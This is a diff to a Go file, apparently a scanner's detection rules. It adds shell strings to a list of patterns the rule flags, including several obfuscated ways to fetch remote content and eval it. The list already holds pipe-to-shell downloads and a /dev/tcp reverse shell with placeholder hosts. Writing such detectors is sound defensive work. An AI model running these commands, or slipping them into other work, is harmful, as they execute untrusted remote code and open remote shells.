@@ -12,6 +12,8 @@ var run = []Rule{
 		Hits: []string{
 			"curl -s u | sh", "curl u | bash", "wget -qO- u | bash -s -- -y", "curl u | /bin/dash", "curl u | sudo bash",
 			"curl u | tee x | zsh", "bash <(curl u)", `bash -c "$(curl u)"`, `eval "$(wget -qO- u)"`, "source <(curl u)",
+			"read -r x < <(curl u); eval \"$x\"", "curl u | while read -r l; do eval \"$l\"; done", "read x <<< $(curl u); sh -c \"$x\"",
+			"mapfile -t a < <(curl u); eval \"${a[@]}\"", "printf -v x '%s' \"$(curl u)\"; eval \"$x\"",
 			"curl u | python3", "curl u | python3 -", "curl u | perl", "curl u | ruby", "curl u | node", "curl u | env bash",
 			"curl u | gunzip | sh", "$(curl u)", "bash < /dev/tcp/h/80", "bash -i >& /dev/tcp/h/80 0>&1", "sh -c \"$(curl -fsSL u)\"",
 		},
